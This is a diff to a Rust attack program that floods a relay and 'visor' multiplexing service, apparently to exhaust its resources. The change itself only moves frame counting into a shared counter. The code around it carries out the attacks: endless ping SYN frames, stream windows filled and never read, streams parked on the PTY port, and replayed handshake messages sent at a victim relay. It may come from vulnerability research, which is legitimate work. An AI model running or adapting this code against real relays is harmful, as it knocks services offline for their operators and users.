@@ -133,6 +133,22 @@ impl Ready {
 
 type Res<T> = Result<T, String>;
 
+/// Frames, pings or replays sent, over every session of the attack.
+static SENT: AtomicU64 = AtomicU64::new(0);
+
+/// Counts one more and reports the total every `every`.
+fn count(every: u64) {
+    let n = SENT.fetch_add(1, Ordering::Relaxed) + 1;
+    if n.is_multiple_of(every) {
+        say(&format!("sent {n}"));
+    }
+}
+
+/// Reports the total now.
+fn report_sent() {
+    say(&format!("sent {}", SENT.load(Ordering::Relaxed)));
+}
+
 fn e2s(e: impl std::fmt::Display) -> String {
     e.to_string()
 }
@@ -251,15 +267,12 @@ async fn ping_relay(ready: &Ready, p: &Params) -> Res<()> {
         control: Vec::new(),
         data: Vec::new(),
     };
-    let mut n: u64 = 0;
-    loop {
-        f.header.length = n as u32;
+    for n in 0u32.. {
+        f.header.length = n;
         w.write_frame(&f).await.map_err(e2s)?;
-        n += 1;
-        if n.is_multiple_of(1 << 20) {
-            say(&format!("sent {n}"));
-        }
+        count(1 << 20);
     }
+    Err("ping ids exhausted".into())
 }
 
 /// (b) Ping SYNs on the inner mux of a channel to the visor; the channel is never read.
@@ -272,27 +285,22 @@ async fn ping_visor(ready: &Ready, ex: &Arc<Executor<'static>>, p: &Params) -> R
         control: Vec::new(),
         data: Vec::new(),
     };
-    let mut n: u64 = 0;
-    loop {
-        f.header.length = n as u32;
+    for n in 0u32.. {
+        f.header.length = n;
         w.write_frame(&f).await.map_err(e2s)?;
-        n += 1;
-        if n.is_multiple_of(1 << 20) {
-            say(&format!("sent {n}"));
-        }
+        count(1 << 20);
     }
+    Err("ping ids exhausted".into())
 }
 
 /// Writes `per_stream` data bytes on each of `ids`, round robin, in frames of `chunk` bytes
-/// (the last one of a stream shorter), every byte `fill`; `sent` counts the frames (reported
-/// every 1,024).
+/// (the last one of a stream shorter), every byte `fill`.
 async fn fill_streams<W: FrameWrite>(
     w: &mut W,
     ids: &[u32],
     per_stream: usize,
     chunk: usize,
     fill: u8,
-    sent: &mut u64,
 ) -> Res<()> {
     let mut left = vec![per_stream; ids.len()];
     let mut full = data_frame(0, Flags::NONE, vec![fill; chunk]);
@@ -313,10 +321,7 @@ async fn fill_streams<W: FrameWrite>(
                     .await
                     .map_err(e2s)?;
             }
-            *sent += 1;
-            if sent.is_multiple_of(1024) {
-                say(&format!("sent {sent}"));
-            }
+            count(1024);
         }
         if !any {
             break;
@@ -339,20 +344,19 @@ async fn relay_streams(ready: &Ready, p: &Params, tiny: bool) -> Res<()> {
     ready.up();
     let ids: Vec<u32> = (0..p.streams as u32).map(|i| 2 * i + 1).collect();
     let open = |id| channel_request(id, sink_keys.public());
-    let mut sent = 0;
     if tiny {
         for &id in &ids {
             w.write_frame(&open(id)).await.map_err(e2s)?;
         }
         w.flush().await.map_err(e2s)?;
-        fill_streams(&mut w, &ids, WINDOW, 1, 0x5a, &mut sent).await?;
+        fill_streams(&mut w, &ids, WINDOW, 1, 0x5a).await?;
     } else {
         for &id in &ids {
             w.write_frame(&open(id)).await.map_err(e2s)?;
-            fill_streams(&mut w, &[id], WINDOW, 64 * 1024, 0x5a, &mut sent).await?;
+            fill_streams(&mut w, &[id], WINDOW, 64 * 1024, 0x5a).await?;
         }
     }
-    say(&format!("sent {sent}"));
+    report_sent();
     // Hold both sessions: whatever the relay kept, it keeps.
     let _hold = (sink_tcp, tcp);
     future::pending::<Res<()>>().await
@@ -382,7 +386,6 @@ async fn visor_streams(
     let (_session, _r, mut w) = channel_to(ex, &p.relay, &victim).await?;
     ready.up();
     let ids: Vec<u32> = (0..p.streams as u32).map(|i| 2 * i + 1).collect();
-    let mut sent = 0;
     if tiny {
         for &id in &ids {
             w.write_frame(&port_open(id, DMSGCTRL_PORT))
@@ -391,24 +394,16 @@ async fn visor_streams(
             w.flush().await.map_err(e2s)?;
             Timer::after(Duration::from_millis(2)).await;
         }
-        fill_streams(&mut w, &ids, WINDOW - 4, 1, DMSGCTRL_PING, &mut sent).await?;
+        fill_streams(&mut w, &ids, WINDOW - 4, 1, DMSGCTRL_PING).await?;
     } else {
         for &id in &ids {
             w.write_frame(&port_open(id, DMSGCTRL_PORT))
                 .await
                 .map_err(e2s)?;
-            fill_streams(
-                &mut w,
-                &[id],
-                WINDOW - 4,
-                16 * 1024,
-                DMSGCTRL_PING,
-                &mut sent,
-            )
-            .await?;
+            fill_streams(&mut w, &[id], WINDOW - 4, 16 * 1024, DMSGCTRL_PING).await?;
         }
     }
-    say(&format!("sent {sent}"));
+    report_sent();
     future::pending::<Res<()>>().await
 }
 
@@ -435,14 +430,13 @@ async fn parked_tcp(ready: &Ready, ex: &Arc<Executor<'static>>, p: &Params) -> R
         }
     });
     let work = async {
-        let mut sent = 0;
         let ids: Vec<u32> = (0..p.streams as u32).map(|i| 2 * i + 1).collect();
         for &id in &ids {
             w.write_frame(&port_open(id, PTY_PORT)).await.map_err(e2s)?;
         }
         w.flush().await.map_err(e2s)?;
-        fill_streams(&mut w, &ids, WINDOW - 4, 16 * 1024, 0x5a, &mut sent).await?;
-        say(&format!("sent {sent}"));
+        fill_streams(&mut w, &ids, WINDOW - 4, 16 * 1024, 0x5a).await?;
+        report_sent();
         future::pending::<Res<()>>().await
     };
     future::or(work, async {
@@ -463,24 +457,20 @@ async fn replay(ready: &Ready, ex: &Arc<Executor<'static>>, p: &Params) {
     msg1.truncate(2 + n);
     msg1[..2].copy_from_slice(&(n as u16).to_be_bytes());
     let msg1: Arc<[u8]> = msg1.into();
-    let count = Arc::new(AtomicU64::new(0));
-    let answered = Arc::new(AtomicU64::new(0));
+    let tried = Arc::new(AtomicU64::new(0));
     ready.up();
     let mut tasks = Vec::new();
     for _ in 0..p.conns.max(1) {
-        let (msg1, count, answered) = (msg1.clone(), count.clone(), answered.clone());
+        let (msg1, tried) = (msg1.clone(), tried.clone());
         let (addr, max) = (p.relay.1.clone(), p.max_replays);
         tasks.push(ex.spawn(async move {
-            while count.fetch_add(1, Ordering::Relaxed) < max {
+            while tried.fetch_add(1, Ordering::Relaxed) < max {
                 let once = async {
                     let mut tcp = TcpStream::connect(addr.as_str()).await.ok()?;
                     tcp.write_all(&msg1).await.ok()?;
                     let mut msg2 = [0u8; 2 + 48];
                     tcp.read_exact(&mut msg2).await.ok()?;
-                    let a = answered.fetch_add(1, Ordering::Relaxed) + 1;
-                    if a.is_multiple_of(256) {
-                        say(&format!("sent {a}"));
-                    }
+                    count(256);
                     // A message 3 announced as 1 byte long: refused before any cryptography.
                     let _ = tcp.write_all(&[0, 1, 0]).await;
                     let mut b = [0u8; 1];
@@ -498,7 +488,7 @@ async fn replay(ready: &Ready, ex: &Arc<Executor<'static>>, p: &Params) {
     for t in tasks {
         t.await;
     }
-    say(&format!("sent {}", answered.load(Ordering::Relaxed)));
+    report_sent();
     say("down replay budget spent");
     future::pending::<()>().await;
 }
